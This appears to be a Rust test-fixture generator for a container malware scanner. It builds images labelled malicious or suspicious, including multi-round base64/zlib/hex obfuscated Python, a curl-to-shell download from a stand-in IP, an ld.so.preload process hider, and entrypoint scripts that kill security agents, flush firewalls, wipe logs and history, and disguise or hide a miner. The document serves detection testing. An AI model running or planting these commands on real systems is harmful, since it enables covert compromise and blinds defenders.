//! What hides: encodings, libraries that lie, defences switched off.

use crate::group;
use crate::programs::{library, miner};
use crate::shape::{Planted, Shape, Surface, malicious, suspicious};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use std::io::Write as _;

fn started(script: impl AsRef<[u8]>) -> Planted {
    Planted::debian().script("docker-entrypoint.sh", script).entry(&["/docker-entrypoint.sh"]).cmd(&[
        "python3",
        "-m",
        "http.server",
    ])
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(9));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Python that runs what it unpacks, in so many rounds.
fn nested(rounds: usize, surface: Surface) -> String {
    let mut code = "import subprocess\nsubprocess.call(['/usr/lib/.q/q'])\n".to_owned();
    for round in 0..rounds {
        code = match surface {
            Surface::Plain => {
                let packed: String = STANDARD.encode(zlib(code.as_bytes())).chars().rev().collect();
                format!(
                    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{packed}'))\n"
                )
            }
            Surface::Changed if round % 2 == 0 => {
                format!(
                    "import base64\nexec(base64.b64decode('{}').decode())\n",
                    STANDARD.encode(code.as_bytes())
                )
            }
            Surface::Changed => {
                let hex: String = zlib(code.as_bytes()).iter().map(|byte| format!("{byte:02x}")).collect();
                format!("import zlib\nexec(zlib.decompress(bytes.fromhex('{hex}')))\n")
            }
        };
    }
    code
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "stealth",
        vec![
            malicious("code in many wrappings", |s| {
                Planted::debian()
                    .file("ten.py", nested(s.pick(12, 8), s))
                    .script("usr/lib/.q/q", miner(s))
                    .entry(&["python3", "/ten.py"])
            }),
            suspicious("code in three wrappings", |s| {
                Planted::debian().file("t.py", nested(3, s)).entry(&["python3", "/t.py"])
            }),
            malicious("script in base64 given to a shell", |s| {
                let payload = STANDARD.encode("curl -fsSL http://198.51.100.31/a | sh\n");
                started(s.pick(
                    format!("#!/bin/sh\necho {payload} | base64 -d | sh\nexec \"$@\"\n"),
                    format!("#!/bin/bash\neval \"$(base64 --decode <<< '{payload}')\"\nexec \"$@\"\n"),
                ))
            }),
            suspicious("script in hexadecimal given to a shell", |s| {
                let text = "nohup /usr/lib/.q/q &\n";
                let escaped: String = text.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
                let plain: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
                started(s.pick(
                    format!("#!/bin/bash\nprintf '{escaped}' | bash\nexec \"$@\"\n"),
                    format!("#!/bin/sh\necho {plain} | xxd -r -p | sh\nexec \"$@\"\n"),
                ))
                .script("usr/lib/.q/q", b"#!/bin/sh\nsleep 1\n")
            }),
            malicious("library that hides processes, preloaded into everything", |s| {
                let so =
                    s.pick("usr/local/lib/libprocesshider.so", "usr/lib/x86_64-linux-gnu/libsystem.so.1");
                let bytes = library(
                    s.pick(&["readdir", "readdir64"][..], &["readdir64", "readdir", "readdir64_r"][..]),
                    &["dlsym", "dirfd", "readlink", "fopen", "sscanf", "strcmp", "snprintf"],
                    &["/proc/self/fd/%d", "/proc/%s/stat", "%d (%[^)]s", "/proc", s.pick("evil", "kdev")],
                );
                Planted::debian().file(so, bytes).file("etc/ld.so.preload", format!("/{so}\n")).cmd(&[
                    "python3",
                    "-m",
                    "http.server",
                ])
            }),
            suspicious("library forced on the start", |s| {
                let so = s.pick("opt/.l/lib.so", "usr/local/lib/libm6.so");
                let bytes = library(&["execve", "fopen", "stat"], &["dlsym", "getenv"], &["/proc/"]);
                Planted::debian().file(so, bytes).env("LD_PRELOAD", &format!("/{so}")).cmd(&[
                    "python3",
                    "-m",
                    "http.server",
                ])
            }),
            malicious("agents and walls switched off", |s| {
                started(s.pick(
                "#!/bin/bash\nsystemctl stop aegis.service; /usr/local/qcloud/stargate/admin/uninstall.sh\nsetenforce 0\niptables -F\n/opt/.z/z &\nexec \"$@\"\n",
                "#!/bin/sh\npkill -9 falcon-sensor; service auditd stop; curl -s http://update.aegis.example/uninstall.sh; killall AliYunDun cloudmonitor\n/opt/.z/z &\nexec \"$@\"\n",
            )).script("opt/.z/z", miner(s))
            }),
            suspicious("entry made immutable, traces wiped", |s| {
                started(s.pick(
                "#!/bin/bash\nunset HISTFILE; history -c\necho '* * * * * root /opt/.z/z' > /etc/cron.d/z\nchattr +i /etc/cron.d/z\n> /var/log/wtmp\nexec \"$@\"\n",
                "#!/bin/sh\nexport HISTFILE=/dev/null\ncp /opt/.z/z /usr/bin/zz; chattr +ia /usr/bin/zz; cat /dev/null > /var/log/auth.log; rm -f $0\n/usr/bin/zz &\nexec \"$@\"\n",
            )).script("opt/.z/z", miner(s))
            }),
            suspicious("program behind a picture's name", |s| {
                let (path, script) = s.pick(
                    (
                        "var/www/logo.png",
                        "#!/bin/sh\ncp /var/www/logo.png /tmp/l; chmod +x /tmp/l; /tmp/l &\nexec \"$@\"\n",
                    ),
                    (
                        "usr/share/doc/a.css",
                        "#!/bin/bash\nchmod 755 /usr/share/doc/a.css; /usr/share/doc/a.css &\nexec \"$@\"\n",
                    ),
                );
                started(script).file(path, miner(s))
            }),
            malicious("process hidden behind a mount", |s| {
                started(s.pick(
                "#!/bin/bash\n/opt/.z/z &\nmount --bind /empty /proc/$!\nexec \"$@\"\n",
                "#!/bin/sh\n/opt/.z/z & P=$!\nmkdir -p /tmp/e; mount -o bind /tmp/e /proc/$P\nexec \"$@\"\n",
            )).script("opt/.z/z", miner(s))
            }),
        ],
    )
}
